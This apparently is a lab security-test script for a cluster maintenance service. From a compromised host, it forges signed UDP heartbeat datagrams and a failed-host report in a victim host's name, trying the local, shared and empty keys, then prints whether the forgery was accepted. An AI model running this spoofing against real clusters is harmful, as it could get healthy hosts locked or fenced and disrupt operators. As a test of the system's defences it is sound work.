# SPDX-License-Identifier: Apache-2.0
"""Runs on a host of the lab that somebody has taken over: with all that is there, it speaks for others.

`forger.py VICTIM BOOT_ID NETWORK:ADDRESS:CONTROLLER…` prints what mtce-agent said to a report in the victim's name.
"""

import dataclasses
import pathlib
import socket
import sys

from mtce import client, conf
from mtce.heartbeat import settings, wire
from stx import config, context, exception

TIMES = 20


def main() -> None:
    victim, boot_id, *networks = sys.argv[1:]
    given = settings.read(pathlib.Path("/etc/starlingx/heartbeat.yaml"))
    has = settings.keys(given)
    # As if its own key, the one that all hosts have, and none were the victim's.
    for keys in (has.own, has.accept, ()):
        claimed = dataclasses.replace(has, own=keys, sign=keys[0] if keys else None, of=lambda host, keys=keys: keys)
        for each in networks:
            network, address, controller = each.split(":")
            said = [(controller, wire.Answer(victim, 7, "forged", is_monitored=True, network=network))]
            if keys:
                said.append((address, wire.End("controller-0", victim, boot_id, is_locked=True)))
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
                for target, body in said:
                    datagram = wire.Sender(given.cluster, body.sender).pack(body, claimed)
                    for _ in range(TIMES):
                        out.sendto(datagram, (target, settings.PORTS[network]))
    config.parse([], prog="mtce-client")
    conf.register()
    try:
        client.Agent().report(context.internal("mtce-client"), client.HostReport(victim, "forged", 0, {}, config="failed"))
    except exception.StxException as error:
        print(error.message)
    else:
        print("taken")


main()
